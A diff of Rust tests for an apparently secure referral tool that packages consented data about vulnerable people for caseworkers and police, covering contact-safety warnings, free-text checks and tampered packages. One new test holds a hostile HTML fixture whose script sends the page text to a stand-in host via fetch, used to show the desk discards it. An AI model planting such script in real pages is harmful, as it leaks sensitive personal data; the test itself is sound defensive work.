@@ -87,7 +87,7 @@ fn request(view: &CaseView, mode: Mode, fields: Option<Vec<FieldGroup>>) -> Requ
         language: None,
         // Most tests here are about what the consents let through, not about this rule, which
         // has tests of its own below.
-        missing_reason: Some("The account follows by phone.".into()),
+        missing_reason: (mode == Mode::Referral).then(|| "The account follows by phone.".into()),
         checked_for_others: true,
     }
 }
@@ -1153,11 +1153,11 @@ fn contact_safety_comes_first_and_an_unanswered_question_stops_the_package() {
         "{text}"
     );
     assert!(
-        text.contains("! Älä ota yhteyttä henkilöön tavalla"),
+        text.contains("! Ota yhteyttä henkilöön vain tavalla, joka on merkitty turvalliseksi."),
         "{text}"
     );
     assert!(
-        html.contains("<p class=\"urgent\">Älä ota yhteyttä"),
+        html.contains("<p class=\"urgent\">Ota yhteyttä henkilöön vain"),
         "{html}"
     );
 
@@ -1188,7 +1188,9 @@ fn contact_safety_comes_first_and_an_unanswered_question_stops_the_package() {
         preview.text
     );
     assert!(
-        preview.text.contains("! Kontakta inte personen"),
+        preview
+            .text
+            .contains("! Kontakta personen bara på ett sätt som är markerat som säkert."),
         "{}",
         preview.text
     );
@@ -1263,6 +1265,16 @@ fn a_referral_without_the_account_or_the_needs_goes_only_with_a_reason() {
     assert!(
         html.contains("She wants to tell it herself, by phone."),
         "{html}"
+    );
+
+    // The reason is free text outside every field group: never in a consultation or a report,
+    // where nothing asks for it.
+    let mut consultation = request(&view, Mode::Consultation, None);
+    consultation.missing_reason = Some("Maria K. was there too.".into());
+    let err = referral::preview(&vault, &consultation, today(), FormLanguage::En).unwrap_err();
+    assert!(
+        matches!(err, Error::InvalidInput(ref m) if m.contains("only with a referral")),
+        "{err:?}"
     );
 
     // With both, nothing is missing and no reason is asked for.
@@ -1373,7 +1385,7 @@ fn every_package_says_how_to_call_the_referrer_back() {
         .unwrap()
         .text;
     assert!(
-        text.contains("! Puhelinnumeroa, josta lähettäjän tavoittaa, ei ole kirjattu."),
+        text.contains("! Esityksen tekijän puhelinnumeroa ei ole kirjattu."),
         "{text}"
     );
 
@@ -1476,12 +1488,48 @@ fn free_text_goes_only_after_the_caseworker_checked_it_names_no_one_else() {
         );
         assert!(!out.exists());
     }
-    // Without free text there is nothing to check.
-    let mut plain = request(
-        &view,
-        Mode::Referral,
-        Some(vec![FieldGroup::Identity, FieldGroup::Needs]),
-    );
+    // The reason for a missing account and a needs note are free text too; a police report of
+    // identity only has none, and nothing to check.
+    for (groups, reason) in [
+        (vec![FieldGroup::Identity], Some("She tells it herself.")),
+        (vec![FieldGroup::Identity, FieldGroup::Needs], None),
+    ] {
+        let mut req = request(&view, Mode::Referral, Some(groups));
+        req.missing_reason = reason.map(str::to_string);
+        req.checked_for_others = false;
+        assert!(matches!(
+            create(&vault, &req, &f.dir.path().join("x.age")),
+            Err(Error::OthersNotChecked | Error::ReferralIncomplete(_))
+        ));
+    }
+    let police = recipients::add(
+        &vault,
+        "Police",
+        RecipientKind::Police,
+        None,
+        KeySource::AgeRecipient(&_desk.identity.to_public().to_string()),
+    )
+    .unwrap();
+    recipients::confirm(
+        &vault,
+        "Police",
+        &police.record.fingerprint.to_lowercase(),
+        today(),
+    )
+    .unwrap();
+    consents::add(
+        &vault,
+        view.case.id,
+        &consent_for(
+            Some("Police"),
+            Purpose::PoliceReport,
+            &[FieldGroup::Identity],
+        ),
+        today(),
+    )
+    .unwrap();
+    let mut plain = request(&view, Mode::Report, Some(vec![FieldGroup::Identity]));
+    plain.recipient = "Police".into();
     plain.checked_for_others = false;
     assert!(
         !referral::preview(&vault, &plain, today(), FormLanguage::En)
@@ -1502,4 +1550,72 @@ fn free_text_goes_only_after_the_caseworker_checked_it_names_no_one_else() {
         .map(|d| d.record.checked_for_others)
         .collect();
     assert_eq!(logged, [false, true]);
+}
+
+/// A hostile sender signs a package whose printable form carries script and says the person may
+/// be called where the data says no. The desk checks the form's hash, then writes its own form
+/// from the data it checked: the sender's never reaches the folder.
+#[test]
+fn the_desk_prints_its_own_form_from_the_checked_data_never_the_senders() {
+    let (f, vault, desk, view) = sender();
+    consent_to_everything(&vault, &view);
+    let honest = f.dir.path().join("honest.age");
+    let mut req = request(&view, Mode::Referral, None);
+    req.language = Some(FormLanguage::En);
+    create(&vault, &req, &honest).unwrap();
+    let entries = unpack(&honest, &desk.identity);
+    let mut manifest: referral::Manifest =
+        serde_json::from_slice(&entries["manifest.json"]).unwrap();
+    let hostile_form = b"<html><script>fetch('https://x.example/'+document.body.innerText)</script>May the person be called: Yes</html>";
+    let hostile = f.dir.path().join("hostile.age");
+    let mut writer =
+        referral::package::PackageWriter::create(&hostile, &[desk.identity.to_public()]).unwrap();
+    writer
+        .add("referral.json", &entries["referral.json"])
+        .unwrap();
+    writer.add("referral.html", hostile_form).unwrap();
+    manifest.files = writer.files().clone();
+    writer
+        .finish(&manifest, &org::keys(&vault).unwrap())
+        .unwrap();
+
+    let out = f.dir.path().join("opened");
+    desk::open(&hostile, &desk.identity, &[], Some(&out)).unwrap();
+    let written = std::fs::read_to_string(out.join("referral.html")).unwrap();
+    assert!(!written.contains("<script"), "{written}");
+    assert!(
+        written.contains("May the person be called</th><td>NO \u{2014} do not call"),
+        "{written}"
+    );
+
+    // Nor can the sender name another organisation as the referrer to call back, or write a
+    // version of the data no reader knows.
+    for (field, value) in [
+        ("/referrer/organisation", serde_json::json!("A real NGO")),
+        ("/version", serde_json::json!(3)),
+    ] {
+        let mut data: serde_json::Value =
+            serde_json::from_slice(&entries["referral.json"]).unwrap();
+        *data.pointer_mut(field).unwrap() = value;
+        let posing = f.dir.path().join("posing.age");
+        let _ = std::fs::remove_file(&posing);
+        let mut writer =
+            referral::package::PackageWriter::create(&posing, &[desk.identity.to_public()])
+                .unwrap();
+        writer
+            .add("referral.json", &serde_json::to_vec(&data).unwrap())
+            .unwrap();
+        writer
+            .add("referral.html", &entries["referral.html"])
+            .unwrap();
+        manifest.files = writer.files().clone();
+        writer
+            .finish(&manifest, &org::keys(&vault).unwrap())
+            .unwrap();
+        let err = desk::open(&posing, &desk.identity, &[], None).unwrap_err();
+        assert!(
+            matches!(err, Error::BadPackage(ref m) if m.contains("does not agree")),
+            "{field}: {err:?}"
+        );
+    }
 }
